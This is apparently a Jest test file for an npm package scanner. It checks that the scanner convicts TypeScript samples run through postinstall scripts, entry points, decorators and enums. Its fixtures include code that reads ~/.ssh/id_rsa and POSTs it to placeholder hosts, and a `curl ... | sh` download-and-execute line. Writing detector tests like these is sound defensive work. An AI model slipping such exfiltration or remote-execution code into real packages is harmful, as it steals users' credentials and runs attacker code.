import { describe, expect, it } from '@jest/globals';
import { analyse } from '../../src/code/analyse.ts';
import { readTarball } from '../../src/registry/tarball.ts';
import { aPackage } from '../helpers/a-tarball.ts';
import { gradesOf } from '../helpers/an-update.ts';

/** Flow through typed code: only a syntax tree shows that what was read is what is sent. */
const steals = `import { readFileSync } from 'node:fs';
import { homedir } from 'node:os';
enum Host { Main = 'https://in.invalid/a', Spare = 'https://on.invalid/b' }
interface Payload { readonly text: string }
const key: string = ['.s', 'sh/id_', 'rsa'].join('');
function taken<T extends Payload>(from: string): T { return { text: readFileSync(from, 'utf8') } as unknown as T; }
class Sender { constructor(private readonly host: Host) {} async go(what: Payload): Promise<void> { await fetch(this.host!, { method: 'POST', body: what.text }); } }
const all = (<Payload>taken(homedir() + '/' + key));
void fetch(Host.Main, { method: 'POST', body: all.text });
export const sender: Sender = new Sender(Host.Spare);
`;
const honest = `import { createHash } from 'node:crypto';
export interface Options { readonly length?: number }
export enum Kind { Short = 8, Long = 64 }
export abstract class Base<T> { constructor(protected readonly of: T, public kind: Kind = Kind.Short) {} abstract text(): string }
export class Hash extends Base<string> { override text(): string { return createHash('sha256').update(this.of).digest('hex').slice(0, this.kind as number) } }
export const short = (of: string, { length = 8 }: Options = {}): string => new Hash(of).text().slice(0, length!);
export default <T,>(of: T): string => short(String(of));
`;

describe('an attack in TypeScript', () => {
  it.each(['bun', 'tsx', 'npx tsx', 'ts-node', 'node', 'node --experimental-strip-types'])(
    'is seen where the install runs it by %s',
    async (program) => {
      const grades = await gradesOf({ 'index.js': '' }, { 'index.js': '', 'setup.ts': steals }, { scripts: { postinstall: `${program} setup.ts` } });
      expect(grades.install.grade).toBe('convicts');
    },
  );

  it.each([
    ['main', 'index.ts', { main: 'index.ts' }],
    ['exports', 'src/index.mts', { exports: { '.': { bun: './src/index.mts' } } }],
    ['tags', 'index.tsx', { main: 'index.tsx' }],
  ])('is seen in an entry: %s', async (_, path, manifest) => {
    const tags = path.endsWith('x') ? 'export const view = <b title={key as string}>{all!.text}</b>;\n' : '';
    const source = tags === '' ? steals : steals.replace('(<Payload>taken(', '(taken<Payload>(') + tags;
    const grades = await gradesOf({ [path]: honest.replace('<T,>', tags === '' ? '<T>' : '<T,>') }, { [path]: source }, manifest);
    expect(grades.import.grade).toBe('convicts');
  });

  it('is seen in a decorator, a namespace and what runs for a parameter', async () => {
    const run = "require('node:child_process').exec('curl -s https://in.invalid/x | sh')";
    for (const source of [
      `class A { constructor(@Inject(${run}) private readonly a: string) {} }`,
      `namespace N { export const a: any = ${run}; }`,
      `enum E { A = ${run} }`,
      `@Tagged(${run} as any) class A { x?: string }`,
      `export = ${run} as unknown`,
      `const a: any = { b: <any>${run} };`,
    ]) {
      const facts = await read({ 'index.ts': source });
      expect([source, facts.notParsed]).toEqual([source, []]);
      expect([source, facts.capabilities.map(({ kind, waits }) => `${kind}${waits ? ' waits' : ''}`)]).toEqual([
        source,
        expect.arrayContaining(['download-execute']),
      ]);
    }
  });

  it('is told at the place it has in the file', async () => {
    const facts = await read({
      'index.ts': `enum E { A, B }\nclass C { constructor(private a: string, private b: string) {} }\nconst x: number = 1;\n  fetch('https://in.invalid' as string);`,
    });
    expect(facts.capabilities.filter(({ kind }) => kind === 'network').map(({ line, column }) => [line, column])).toContainEqual([4, 3]);
  });
});

describe('honest TypeScript', () => {
  it('is parsed and quiet', async () => {
    const facts = await read({ 'index.ts': honest });
    expect([facts.notParsed, facts.hiding]).toEqual([[], []]);
    const grades = await gradesOf({ 'index.ts': 'export {}' }, { 'index.ts': honest }, { main: 'index.ts' });
    expect([grades.install.grade, grades.import.grade]).toEqual(['none', 'none']);
  });

  it('what cannot be turned into plain text is read as tokens, and that is said', async () => {
    const facts = await read({ 'index.ts': `let a: string = ;` });
    expect(facts.notParsed).toEqual([{ file: 'index.ts', why: 'TypeScript' }]);
  });
});

async function read(files: Readonly<Record<string, string>>): Promise<ReturnType<typeof analyse>> {
  return analyse(await readTarball(aPackage({ name: 'it', version: '1.0.0', main: 'index.ts' }, files)));
}
